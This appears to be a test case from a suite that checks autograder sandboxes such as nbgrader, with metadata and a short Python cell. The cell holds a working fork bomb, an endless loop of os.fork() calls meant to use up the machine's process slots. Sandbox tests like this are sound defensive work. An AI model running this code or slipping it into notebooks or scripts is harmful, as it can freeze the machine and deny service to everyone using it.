# title: Fork bomb
# kind: process
# tries: to use up the machine's process slots.
# seen: CMS test suite
# gets: bump_test timed out
# needs: cgroups
# stock: nbgrader 0.9.6: nothing recorded (CellTimeoutError)
# %% bump
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
